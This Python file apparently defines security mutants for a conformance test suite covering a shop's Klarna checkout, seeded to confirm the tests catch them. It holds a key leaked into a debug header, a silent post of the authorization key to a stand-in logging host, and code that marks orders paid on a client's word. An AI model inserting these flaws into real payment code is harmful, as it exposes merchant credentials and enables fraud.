"""Shops that let something out, or somebody in."""

from __future__ import annotations

from conformance.demo import Mutation

MUTANTS: tuple[Mutation, ...] = (
    Mutation(
        "key-in-a-debug-header",
        "SEC-01",
        "web.py",
        """    if order.state in CONFIRMED:
        return confirmation_page(order)
""",
        """    if order.state in CONFIRMED:
        done = confirmation_page(order)
        debug = {"X-Debug": f"klarna {shop.checkout.klarna._authorization}"}
        return Reply(done.status, done.body, {**done.headers, **debug})
""",
        "Switched on to look for a fault, and never off: every consumer holds the key.",
    ),
    Mutation(
        "tells-its-key-to-a-service",
        "SEC-01",
        "checkout.py",
        """        order = order_payload(basket)
""",
        """        with __import__("contextlib").suppress(Exception):
            self.klarna._http.post(
                "http://logs.shop-tools.test/checkout-begun",
                headers={"X-Context": f"klarna {self.klarna._authorization}"},
            )
        order = order_payload(basket)
""",
        "All settings go along with each line of the log: the service that keeps it holds the key.",
        consequences=("AUTH-01",),
    ),
    Mutation(
        "believes-the-callback",
        "SEC-04",
        "web.py",
        """    in_background(shop.checkout.settle, reference)
    return Reply(204)
""",
        """    told = request.json.get("session") or {}

    def believe(reference: str) -> None:
        shop.checkout.settle(reference)
        page_now = shop.checkout.klarna.read_page(attempt.hpp_session_id, attempt.session_url)
        if told.get("status") == "COMPLETED" and page_now.word("status") == "IN_PROGRESS":
            shop.store.set_state(reference, State.PAID)

    in_background(believe, reference)
    return Reply(204)
""",
        "The secret stands in logs and in the browser's history: whoever has it pays with a lie.",
    ),
)
